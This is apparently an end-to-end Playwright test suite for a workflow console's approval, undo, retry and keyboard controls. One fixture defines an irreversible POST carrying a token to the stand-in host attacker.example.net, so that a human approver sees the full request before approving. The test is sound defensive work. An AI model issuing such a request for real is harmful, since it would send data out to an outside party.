"""Every control in a real browser: its preview, a reason, the receipt; by mouse, by keys, and by two at once."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import httpx
import pytest
import yaml
from playwright.sync_api import Browser, Locator, Route, expect

from interfaces.http.live_console import LiveConsole
from interfaces.shell import Shell, until
from outside.console.person import Person, person
from outside.console.world import GUIDED, LOOP, RELEASE, STUCK, TIDY, act, answered, is_over, project, started

REASON = "because <b>I</b> say so"


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory, unmeasured_servers: None) -> Iterator[LiveConsole]:
    with project(tmp_path_factory.mktemp("decisions")) as live:
        yield live


@pytest.fixture(scope="module")
def script(console: LiveConsole) -> Iterator[httpx.Client]:
    with console.script() as client:
        yield client


@pytest.fixture(scope="module")
def ada(browser: Browser, console: LiveConsole) -> Iterator[Person]:
    with person(browser, console) as one:
        yield one


class Control(NamedTuple):
    """The button that opens the preview, what that says, the button that confirms, what is said and shown then."""

    opens: str
    preview: tuple[str, ...]
    confirms: str
    done: str
    shown: str


CONTROLS: list[tuple[str, dict[str, Any], Control]] = [
    (
        "pause",
        GUIDED,
        Control("Pause…", ("Start no new steps", "The run is then paused"), "Pause this run", "Paused", "Paused"),
    ),
    ("skip", TIDY, Control("Skip…", ("Skip “Write index” and go on",), "Skip Write index", "Skipped", "Completed")),
    (
        "compensate",
        TIDY,
        Control(
            "Undo…",
            ("2 steps, newest first.", "1Keep copy", "2Make folder", "Nothing stays behind.", "The run is then undone"),
            "Undo 2 steps",
            "Undo started",
            "Undone",
        ),
    ),
    (
        "cancel",
        TIDY,
        Control(
            "Cancel…", ("What stays behind:", "Make folder", "Keep copy"), "Cancel this run", "Cancelled", "Cancelled"
        ),
    ),
    (
        "retry",
        TIDY,
        Control("Retry…", ("rarely heals by itself",), "Retry Write index", "Retry started", "Waiting for a decision"),
    ),
]


def panel(ada: Person) -> Locator:
    return ada.page.get_by_role("complementary", name="Decide")


def decided(ada: Person, control: Control) -> int:
    """Press a control, read its preview, give a reason, confirm: the number of the entry that the receipt names."""
    ada.page.get_by_role("link", name=control.opens).first.click()
    for words in (*control.preview, "The run is then"):
        expect(panel(ada)).to_contain_text(words)
    confirm = panel(ada).get_by_role("button", name=control.confirms)
    expect(confirm).to_be_disabled()
    panel(ada).get_by_label("Reason").fill(REASON)
    confirm.click()
    expect(ada.page.locator(".run-head .pill")).to_have_text(control.shown)
    return receipt(ada, control.done)


def receipt(ada: Person, words: str) -> int:
    """The entry that the newest message names."""
    message = ada.page.locator(".toast").filter(has_text=words).last
    link = message.get_by_role("link", name=re.compile(r"^Entry \d+$"))
    number = int((link.text_content() or "").split()[-1])
    message.get_by_role("button", name="Dismiss").click()
    return number


def entry(script: httpx.Client, run: str, number: int) -> dict[str, Any]:
    found: dict[str, Any] = script.get(f"/api/v1/runs/{run}/journal/{number}").json()
    return found


@pytest.mark.parametrize(("action", "plan", "control"), CONTROLS, ids=lambda one: one if isinstance(one, str) else "")
def test_a_control_is_previewed_reasoned_and_receipted(
    ada: Person, script: httpx.Client, action: str, plan: dict[str, Any], control: Control
) -> None:
    run = started(script, plan)
    ada.go(f"/runs/{run}")
    assert script.get(f"/api/v1/runs/{run}").json()["status"] == "waiting"
    written = entry(script, run, decided(ada, control))
    assert (written["actor"], written["data"].get("reason")) == (ada.name, REASON)
    if action == "pause":
        again = Control("Resume…", ("Go on",), "Resume this run", "Resumed", "Waiting for agent")
        assert entry(script, run, decided(ada, again))["kind"] == "run_resumed"
    ada.require_clean()


def test_a_run_is_started_by_the_form_of_its_workflow(ada: Person, script: httpx.Client) -> None:
    ada.go("/library/release")
    form = ada.page.locator(".start-form")
    start = form.get_by_role("button", name="Start")
    expect(start).to_be_disabled()
    form.get_by_label("What is released").fill("4.0.0")
    form.get_by_label("What it is for").fill("the form")
    expect(form.locator(".twin code")).to_have_text("handrail run start release -i version=4.0.0 --goal 'the form'")
    start.click()
    ada.sees("Asked for approval:")
    run = ada.path.split("/")[2]
    view = script.get(f"/api/v1/runs/{run}").json()
    assert (view["inputs"], view["goal"], view["starter"]) == ({"version": "4.0.0"}, "the form", ada.name)
    ada.require_clean()


def test_a_fork_says_what_is_done_again_and_opens_the_new_run(ada: Person, script: httpx.Client) -> None:
    run = started(script, RELEASE, version="5.0.0")
    answered(script, run, "approve")
    assert is_over(script, run) == "completed"
    ada.go(f"/runs/{run}")
    ada.page.get_by_role("button", name="More about this run").click()
    ada.page.get_by_role("link", name="Fork from a step…").click()
    panel(ada).get_by_role("radio", name="A new run from “Publish” on").click()
    expect(panel(ada)).to_contain_text("1 step carried over, 2 steps done again.")
    panel(ada).get_by_label("Reason").fill(REASON)
    panel(ada).get_by_role("button", name="Start the new run").click()
    ada.sees("Forked from")
    assert ada.path.split("/")[2] != run
    ada.require_clean()


def test_a_step_is_submitted_by_hand_and_checked_like_an_agents(ada: Person, script: httpx.Client) -> None:
    run = started(script, GUIDED)
    ada.go(f"/runs/{run}/steps/write")
    ada.page.get_by_role("complementary", name="Step").get_by_role("link", name="Submit…").click()
    expect(panel(ada)).to_contain_text("Write one word.")
    expect(panel(ada)).to_contain_text("by length")
    send = panel(ada).get_by_role("button", name="Submit")
    expect(send).to_be_disabled()
    panel(ada).get_by_label("Word").fill("x")
    send.click()
    expect(panel(ada).get_by_role("alert")).to_contain_text("length: it has 1 character, at least 3 are needed")
    assert entry(script, run, receipt(ada, "Not accepted."))["kind"] == "output_refused"
    panel(ada).get_by_label("Word").fill("word")
    send.click()
    ada.sees("1 completed")
    written = entry(script, run, receipt(ada, "Accepted."))
    assert (written["kind"], written["actor"]) == ("step_completed", ada.name)
    ada.require_clean()


def test_steps_that_failed_alike_are_retried_together_line_by_line(ada: Person, script: httpx.Client) -> None:
    names = [f"later-{number}.md" for number in range(3)]
    run = started(script, LOOP, files=["there.md"] * 70 + names)
    ada.go("/")
    row = ada.page.locator("[data-row]").filter(has_text="Upload all: 3 steps failed")
    row.get_by_role("link", name="Retry all 3…").click()
    expect(panel(ada)).to_contain_text("3 steps failed alike")
    confirm = panel(ada).get_by_role("button", name="Retry 3 steps")
    expect(confirm).to_be_disabled()
    for name in names:
        ada.console.shell.write("x", name)
    panel(ada).get_by_label("Reason").fill(REASON)
    confirm.click()
    expect(panel(ada)).to_contain_text("3 of 3 steps done.")
    assert is_over(script, run) == "completed"
    retried = script.get(f"/api/v1/runs/{run}/journal", params={"kind": "step_retried"}).json()["events"]
    assert {one["data"]["reason"] for one in retried} == {REASON}
    expect(ada.page.locator(".run-head .pill")).to_have_text("Completed")
    ada.require_clean()


@pytest.mark.skipif(shutil.which("curl") is None, reason="there is no curl here")
def test_what_is_copied_as_curl_works_in_any_shell(ada: Person, script: httpx.Client) -> None:
    run = started(script, GUIDED)
    ada.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    copied = "() => navigator.clipboard.readText()"
    environment = {"PATH": os.environ["PATH"]}  # and no HANDRAIL_HOME
    ada.go(f"/runs/{run}")
    ada.page.get_by_role("button", name="More about this run").click()
    ada.page.get_by_role("button", name="Copy as curl").click()
    done = subprocess.run(["sh", "-c", ada.page.evaluate(copied)], env=environment, capture_output=True, check=True)
    assert json.loads(done.stdout)["run"] == run
    ada.page.get_by_role("link", name="Pause…").click()
    panel(ada).get_by_label("Reason").fill(REASON)
    panel(ada).get_by_role("button", name="Copy as curl").click()
    subprocess.run(["sh", "-c", ada.page.evaluate(copied)], env=environment, capture_output=True, check=True)
    expect(ada.page.locator(".run-head .pill")).to_have_text("Paused")
    assert script.get(f"/api/v1/runs/{run}").json()["reason"] == REASON


def test_an_undo_that_failed_is_said_to_be_done_by_hand(ada: Person, script: httpx.Client) -> None:
    run = started(script, STUCK)
    act(script, run, "compensate")
    assert is_over(script, run) == "compensation_failed"
    ada.go(f"/runs/{run}")
    ada.sees("1 effect could not be undone")
    ada.page.get_by_role("link", name="Retry…").first.click()
    panel(ada).get_by_role("radio", name=re.compile("was undone by hand")).click()
    panel(ada).get_by_label("Reason").fill(REASON)
    panel(ada).get_by_role("button", name="Say it was undone").click()
    expect(ada.page.locator(".run-head .pill")).to_have_text("Undone")
    assert script.get(f"/api/v1/runs/{run}/steps/send").json()["step"]["compensation"] == "recorded"
    ada.require_clean()


def test_keys_step_back_and_forward_in_time(ada: Person, script: httpx.Client) -> None:
    run = started(script, TIDY)
    ada.go(f"/runs/{run}")
    shown = ada.page.locator(".run-head .pill")
    expect(shown).to_have_text("Waiting for a decision")
    ada.press(*[","] * 3)
    expect(shown).to_have_text("Running")
    expect(ada.page.get_by_role("link", name="Retry…")).to_have_count(0)  # the past can't be changed
    assert ada.violations() == []
    ada.press(*[";"] * 3)
    expect(shown).to_have_text("Waiting for a decision")
    expect(ada.page).to_have_url(re.compile(rf"/runs/{run}(/steps/\w+)?$"))
    ada.require_clean()


def test_a_second_project_opens_beside_the_first(browser: Browser, tmp_path: Path) -> None:
    # On a server of its own: from the second project on, every address names its project.
    with project(tmp_path / "shop") as console, console.script() as script:
        here = started(script, TIDY)
        with person(browser, console, f"/runs/{here}") as ada:
            _opens_beside(ada, script, console, tmp_path / "site")


def _opens_beside(ada: Person, script: httpx.Client, console: LiveConsole, folder: Path) -> None:
    site = Shell(folder)
    site.folder.mkdir()
    site.home = console.shell.home
    other = ada.page.context.new_page()
    with site.process("open", "--json") as opened:
        other.goto(json.loads(opened.line())["url"])
    expect(other.get_by_role("heading", level=1)).to_have_text("Nothing waits for you")
    expect(other.locator("body")).to_contain_text("No runs yet")
    (there,) = (one["id"] for one in script.get("/api/v1/projects").json()["projects"] if one["name"] == folder.name)
    answer = script.post("/api/v1/runs", params={"project": there}, json={"definition": GUIDED})
    assert answer.status_code == 201, answer.text
    expect(other.locator("body")).to_contain_text("Waiting for an agent")
    expect(ada.page.locator("h1").first).to_contain_text("Tidy up")  # the first tab stays where it is
    ada.go("/")
    expect(ada.page.locator(".home-main")).to_contain_text("Tidy up")
    other.reload()
    expect(other.locator(".home-main")).to_contain_text("Write it")
    expect(other.locator(".home-main")).not_to_contain_text("Tidy up")


# --- approvals ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "done", "status"), [("Approve", "Approved", "completed"), ("Reject", "Rejected", "waiting")]
)
def test_an_answer_is_bound_to_what_was_shown(
    ada: Person, script: httpx.Client, answer: str, done: str, status: str
) -> None:
    run = started(script, RELEASE, version="6.0.0")
    ada.go("/approvals")
    ada.page.get_by_role("link", name=re.compile("Publish 6.0.0")).first.click()
    card = ada.page.locator(".approval")
    digest = script.get(f"/api/v1/approvals/{run}/ask").json()["digest"]
    for words in ("Publish 6.0.0?", "write published-6.0.0.md", "Can be undone", digest):
        expect(card).to_contain_text(words)
    button = card.get_by_role("button", name=answer)
    expect(button).to_be_disabled()
    card.get_by_label("Reason").fill(REASON)
    button.click()
    written = entry(script, run, receipt(ada, done))
    assert (written["data"]["digest"], written["data"]["reason"], written["data"]["channel"]) == (
        digest,
        REASON,
        "console",
    )
    expect(ada.page).to_have_url(re.compile(rf"/runs/{run}\b"))
    assert is_over(script, run) == status
    ada.require_clean()


def test_of_two_people_who_answer_at_once_one_wins_and_the_other_sees_who(
    browser: Browser, console: LiveConsole, script: httpx.Client
) -> None:
    run = started(script, RELEASE, version="7.0.0")
    with (
        person(browser, console, f"/approvals/{run}/ask") as ada,
        person(browser, console, f"/approvals/{run}/ask") as bo,
    ):
        for one, reason in ((ada, "ada has looked"), (bo, "bo has looked")):
            one.page.get_by_label("Reason").fill(reason)
            expect(one.page.get_by_role("button", name="Approve")).to_be_enabled()
        for one in (ada, bo):  # neither waits for the other
            one.page.evaluate("() => document.querySelector('.answer button[type=submit]').click()")

        def answers() -> list[dict[str, Any]]:
            events: list[dict[str, Any]] = script.get(
                f"/api/v1/runs/{run}/journal", params={"kind": "approval_given"}
            ).json()["events"]
            return events

        until(answers)  # until one of them has arrived, the run is waiting: it is at rest, but not over
        assert is_over(script, run) == "completed"
        (won,) = (one["data"]["reason"] for one in answers())
        loser = bo if won.startswith("ada") else ada
        loser.sees(re.compile(f"{ada.name.partition(':')[2]} approved"), within=".split-main")
        loser.sees(re.compile(f"“{won}”"), within=".split-main")


# --- keys -----------------------------------------------------------------------------------------------


PLACES = {
    "h": "/",
    "r": "/runs",
    "a": "/approvals",
    "l": "/library",
    "n": "/plans",
    "t": "/tools",
    "i": "/insight",
    "p": "/proof",
}


def test_everything_is_reached_and_decided_without_a_mouse(ada: Person, script: httpx.Client) -> None:
    run = started(script, TIDY)
    ada.go("/settings/about")
    for letter, path in PLACES.items():
        ada.press("g", letter)
        expect(ada.page).to_have_url(re.compile(rf"^{ada.console.url}{path}(/.*)?$"))
    ada.press("g", "r")
    expect(ada.page.locator(".runs-table")).to_contain_text(run)
    ada.press("j", "Enter")
    expect(ada.page).to_have_url(re.compile(rf"/runs/{run}/steps/write_index$"))
    ada.press("k")
    expect(ada.page).to_have_url(re.compile(r"/steps/keep_copy$"))
    expect(ada.page.locator("[data-step=keep_copy]")).to_be_focused()
    ada.press("Escape")
    for number, tab in enumerate(("graph", "timeline", "journal", "values", "definition"), start=2):
        ada.press(str(number))
        expect(ada.page).to_have_url(re.compile(rf"/runs/{run}/{tab}\b"))
    ada.press("1", "u")
    expect(panel(ada)).to_contain_text("2 steps, newest first.")
    expect(panel(ada).get_by_role("radio", checked=True)).to_be_focused()
    ada.press("Control+Enter")  # without a reason nothing happens
    ada.press("Tab")
    ada.page.keyboard.type("keys are enough")
    ada.press("Control+Enter")
    assert entry(script, run, receipt_by_keys(ada))["data"]["reason"] == "keys are enough"
    assert is_over(script, run) == "compensated"
    ada.require_clean()


def receipt_by_keys(ada: Person) -> int:
    link = ada.page.locator(".toast").get_by_role("link", name=re.compile(r"^Entry \d+$"))
    return int((link.text_content() or "").split()[-1])


def test_the_palette_finds_runs_places_and_actions(ada: Person, script: httpx.Client) -> None:
    run = started(script, TIDY)
    ada.go(f"/runs/{run}/journal")
    field = ada.page.get_by_role("combobox")
    ada.press("Control+k")
    expect(field).to_be_focused()
    ada.page.keyboard.type(">undo")
    expect(ada.page.get_by_role("option", selected=True)).to_contain_text("Undo…")
    assert ada.violations() == []
    ada.shot("palette-light")
    ada.press("Enter")
    expect(ada.page).to_have_url(re.compile(rf"/runs/{run}/do/compensate$"))
    ada.press("Escape", "Control+k")
    ada.page.keyboard.type("proof")
    expect(ada.page.get_by_role("option", selected=True)).to_contain_text("Proof")
    ada.press("Enter")
    expect(ada.page).to_have_url(f"{ada.console.url}/proof")
    ada.press("Control+k")
    ada.page.keyboard.type(run)
    expect(ada.page.get_by_role("option", selected=True)).to_contain_text("Tidy up")
    ada.press("Enter")
    expect(ada.page).to_have_url(re.compile(rf"/runs/{run}\b"))
    expect(field).to_have_count(0)
    ada.press("?")
    expect(ada.page.get_by_role("dialog")).to_contain_text("Approve…")
    assert ada.violations() == []
    ada.shot("keys-light")
    ada.press("Escape", "g", "r")
    expect(ada.page.locator(".runs-table")).to_be_visible()
    ada.press("/")
    expect(ada.page.get_by_role("searchbox")).to_be_focused()
    ada.page.keyboard.type("state:cancelled nothing-is-called-that")
    ada.press("Enter")
    ada.sees("No run matches")
    ada.require_clean()


def test_what_is_typed_before_the_palette_is_there_is_meant_for_it(browser: Browser, console: LiveConsole) -> None:
    with person(browser, console) as ada:

        def hold(_: Route) -> None:
            """Leave it without an answer."""

        ada.page.route("**/app/over.js", hold)
        with ada.page.expect_request("**/app/over.js"):
            ada.go("/runs")
        ada.press("Control+k")
        ada.page.keyboard.type("proof")  # else p and r would do something to the page
        ada.page.unroute("**/app/over.js")  # those that were held go on
        field = ada.page.get_by_role("dialog").get_by_role("combobox")
        expect(field).to_have_value("proof")
        ada.page.keyboard.type("!")
        expect(field).to_have_value("proof!")
        ada.require_clean()


def test_what_is_approved_is_all_in_sight_without_a_pointer(ada: Person, script: httpx.Client) -> None:
    """The host, the headers, the body and the text; what is long opens by a key."""
    call = {"url": "https://attacker.example.net/orders?token=1", "method": "POST", "json": {"to": "somebody"}}
    steps = [
        {"id": "ask", "approve": "Order?"},
        {"id": "order", "tool": "http.request", "effect": "irreversible", "args": {**call, "headers": {"x-why": "me"}}},
        {"id": "note", "tool": "file.write", "args": {"path": "note.md", "text": "word " * 900 + "the end"}},
        {"id": "last", "tool": "value.set", "args": {"value": ["yes", "a: b", {"x": [], "y": "one\n two\n"}, [["z"]]]}},
    ]
    run = started(script, {"id": "order", "name": "Order", "steps": steps})
    ada.go(f"/approvals/{run}/ask")
    rows = ada.page.locator(".effect-row")
    expect(rows).to_have_count(3)
    order, note, _ = rows.all()
    for words in ("POST https://attacker.example.net/orders?token=1", '"to": "somebody"', '"x-why": "me"'):
        expect(order.get_by_text(words)).to_be_visible()
    expect(note).to_contain_text("file.write note.md")
    expect(note.get_by_text("the end")).to_be_hidden()
    note.get_by_text("text: show 4,507 characters").press("Enter")
    expect(note.get_by_text("the end")).to_be_visible()
    ada.go(f"/runs/{run}/definition")
    shown = yaml.safe_load(ada.page.locator(".source pre").last.inner_text())
    assert shown == script.get(f"/api/v1/runs/{run}/definition").json()["definition"]
    ada.require_clean()
